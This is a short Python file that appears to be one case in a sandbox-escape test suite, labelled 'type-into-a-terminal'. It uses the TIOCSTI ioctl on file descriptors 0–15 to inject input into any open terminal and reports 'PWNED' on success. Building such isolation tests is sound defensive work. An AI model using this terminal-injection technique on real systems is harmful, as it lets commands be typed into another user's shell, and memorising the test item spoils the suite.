# attack: type-into-a-terminal
# layer: os (assumes the language layer is already broken: run as plain Python)
# class: control
# success: TIOCSTI on whatever is open
import ctypes
libc = ctypes.CDLL(None, use_errno=True)

def run():
    return "PWNED" if any(libc.ioctl(descriptor, 0x5412, b"x") == 0 for descriptor in range(16)) else "refused"
